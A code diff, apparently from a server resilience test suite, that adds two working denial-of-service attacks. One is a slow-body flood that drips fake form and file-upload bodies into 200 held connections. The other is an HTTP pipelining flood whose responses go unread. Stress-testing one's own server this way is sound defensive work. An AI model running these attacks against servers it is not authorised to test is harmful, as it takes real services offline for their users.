@@ -1,6 +1,7 @@
 import { once } from 'node:events'
 import { connect, type Socket } from 'node:net'
 import { setInterval as every } from 'node:timers/promises'
+import type { Attack } from './attack.ts'
 
 interface Options {
   count: number
@@ -18,7 +19,7 @@ const ROUND_MS = 5000
  * Keeps connections open without reading what they receive. Opens those that the server has closed again, every five
  * seconds, until the result is disposed.
  */
-export function holdConnections(url: string, { count, from, onOpen, onRound }: Options): AsyncDisposable {
+function holdConnections(url: string, { count, from, onOpen, onRound }: Options): AsyncDisposable {
   const { hostname, port } = new URL(url)
   const stop = new AbortController()
   const sockets = new Set<Socket>()
@@ -55,4 +56,47 @@ async function* roundsUntil(signal: AbortSignal): AsyncGenerator<void> {
   } catch (error) {
     if (!signal.aborted) throw error
   }
+}
+
+const DRIPPING_CONNECTIONS = 200
+const BODY_BYTES = 5_000_000
+
+const FORM_START = '--x\r\nContent-Disposition: form-data; name="cv"; filename="cv.doc"\r\n\r\n'
+
+/** Bodies that arrive at one byte every five seconds: enquiries, and applications with files. */
+export const dripping: Attack = {
+  name: 'dripping bodies',
+  addresses: [3],
+  prepare: async ({ url }) => {
+    const { host } = new URL(url)
+    const start = (path: string, type: string, body: string) =>
+      `POST ${path} HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${type}\r\nContent-Length: ${BODY_BYTES}\r\n\r\n${body}`
+    const texts = [
+      start('/api/contact', 'application/json', '{"firstName":"'),
+      start('/api/applications', 'multipart/form-data; boundary=x', FORM_START),
+    ]
+    let opened = 0
+    return (from) =>
+      holdConnections(url, {
+        count: DRIPPING_CONNECTIONS,
+        from,
+        onOpen: (socket) => void socket.write(texts[opened++ % texts.length] ?? ''),
+        onRound: (socket) => void socket.write('a'),
+      })
+  },
+}
+
+const PIPELINING_CONNECTIONS = 280
+/** Together longer than the 64 KiB that a server reads at once. */
+const REQUESTS = 2600
+
+/** Connections full of short requests whose responses nobody reads (HTTP pipelining). */
+export const pipelining: Attack = {
+  name: 'pipelined requests',
+  addresses: [1, 2, 3],
+  prepare: async ({ url }) => {
+    const text = `GET / HTTP/1.1\r\nHost: ${new URL(url).host}\r\n\r\n`.repeat(REQUESTS)
+    return (from) =>
+      holdConnections(url, { count: PIPELINING_CONNECTIONS, from, onOpen: (socket) => void socket.write(text) })
+  },
 }
